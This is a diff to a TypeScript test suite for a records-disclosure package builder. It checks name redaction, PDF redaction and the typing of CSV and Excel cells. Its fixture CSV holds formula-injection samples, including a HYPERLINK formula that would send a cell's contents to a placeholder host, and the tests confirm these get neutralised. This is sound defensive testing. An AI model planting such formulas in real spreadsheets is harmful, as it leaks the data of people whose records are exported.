@@ -45,7 +45,17 @@ async function approved(
   const dir = mkdtempSync(join(tmpdir(), 'madoguchi-package-'));
   // A name on disk that names a person: it must not reach the ZIP's (unencrypted) entry names.
   const csv = join(dir, '鬼瓦権左衛門_会員情報.csv');
-  writeFileSync(csv, `会員番号,氏名,紹介者\n1001,山田 太郎,${SECRET}\n1002,=1+2,秘密 二郎\n`);
+  // The person's own numbers, dates and codes, and text a spreadsheet would run as a formula.
+  writeFileSync(
+    csv,
+    [
+      '会員番号,氏名,紹介者,残高,登録日,郵便番号,メモ',
+      `1001,山田 太郎,${SECRET},-500,2026/10/01,0123456,"=HYPERLINK(""http://example.invalid/?""&A1)"`,
+      '1002,=1+2,秘密 二郎,"1,234.50",2026-11-22 14:05,00123,@SUM(A1)',
+      '1003,-1+2,,0.10,2026年1月5日,090-1234-5678,12345678901234567',
+      '',
+    ].join('\n'),
+  );
   const note = join(dir, 'call-note.pdf');
   writeFileSync(note, opts.note ?? (await pdfWith('Call note 2026-10-01')));
   const opens = [csv, note];
@@ -174,8 +184,14 @@ describe('電磁的記録 package', () => {
     const csv = readFileSync(join(out.dir, '02_記録1.csv'));
     expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = csv.toString('utf8');
-    expect(text).toContain('"1001","山田 太郎","（不開示）"');
+    expect(text).toContain('"1001","山田 太郎","（不開示）","-500","2026/10/01","0123456",');
+    // Formulas defused (issue 34 §6): the person's plain numbers are not.
     expect(text).toContain(`"'=1+2"`);
+    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1)"`);
+    expect(text).toContain(`"'@SUM(A1)"`);
+    expect(text).toContain(`"'-1+2"`);
+    expect(text).toContain('"1,234.50"');
+    expect(text).not.toContain(`'-500`);
     expect(text).not.toContain('秘密');
     // The call note went redacted: an image of the page, no text left.
     expect(pdfText(readFileSync(join(out.dir, '03_記録2.pdf')).toString('base64'))).toBe('');
@@ -213,7 +229,46 @@ describe('電磁的記録 package', () => {
         const book = new ExcelJS.Workbook();
         await book.xlsx.readFile(file);
         const sheet = book.worksheets[0];
-        expect(sheet?.getRow(2).values).toEqual([undefined, '1001', '山田 太郎', '（不開示）']);
+        // Numbers and dates typed as the ledger types them, shown as the record had them; codes,
+        // formula-looking text and numbers Excel cannot hold whole stay text (issue 34 §6).
+        const cells = (r: number) =>
+          sheet?.getRow(r).values as (string | number | Date | { formula: string } | undefined)[];
+        const formats = (r: number) => [1, 2, 3, 4, 5, 6, 7].map((c) => sheet?.getRow(r).getCell(c).numFmt);
+        expect(cells(2)).toEqual([
+          undefined,
+          1001,
+          '山田 太郎',
+          '（不開示）',
+          -500,
+          new Date(Date.UTC(2026, 9, 1)),
+          '0123456',
+          '=HYPERLINK("http://example.invalid/?"&A1)',
+        ]);
+        expect(formats(2).slice(0, 5)).toEqual(['0', undefined, undefined, '0', 'yyyy/mm/dd']);
+        expect(cells(3)).toEqual([
+          undefined,
+          1002,
+          '=1+2',
+          '（不開示）',
+          1234.5,
+          new Date(Date.UTC(2026, 10, 22, 14, 5)),
+          '00123',
+          '@SUM(A1)',
+        ]);
+        expect(formats(3)[3]).toBe('#,##0.00');
+        expect(formats(3)[4]).toBe('yyyy/mm/dd hh:mm');
+        expect(cells(4)).toEqual([
+          undefined,
+          1003,
+          '-1+2',
+          '（不開示）',
+          0.1,
+          new Date(Date.UTC(2026, 0, 5)),
+          '090-1234-5678',
+          '12345678901234567',
+        ]);
+        expect(formats(4)[3]).toBe('0.00');
+        expect(formats(4)[4]).toBe('yyyy"年"m"月"d"日"');
       } else {
         const text = pdfText(readFileSync(file).toString('base64'));
         expect(text).toContain('1001山田太郎（不開示）');
